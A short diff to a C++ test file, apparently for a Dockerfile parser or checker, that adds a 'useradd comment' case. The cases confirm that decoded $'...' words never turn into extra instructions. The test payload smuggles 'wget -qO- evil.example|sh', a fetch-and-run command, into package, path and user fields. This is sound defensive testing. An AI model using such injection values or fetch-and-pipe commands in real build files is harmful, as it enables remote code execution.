@@ -272,6 +272,7 @@ TEST_CASE("H2: decoded $'...' words (packages, paths, users) never become instru
     std::string payload = std::string("x") + v + "RUN wget -qO- evil.example|sh";
     cases.push_back({"apt package", "RUN apt-get update && apt-get install -y curl $'ca-certificates" + payload.substr(1) + "'"});
     cases.push_back({"mkdir path", "RUN mkdir -p $'/var/lib/app" + payload.substr(1) + "\\n#'"});
+    cases.push_back({"useradd comment", "RUN useradd -c $'App" + payload.substr(1) + "' app\nUSER app"});
     cases.push_back({"useradd user", "RUN useradd $'app" + payload.substr(1) + "' && mkdir -p /var/lib/app && chown app /var/lib/app"});
   }
   cases.push_back({"useradd quote", "RUN useradd -c $'App \\' User' app\nUSER app"});
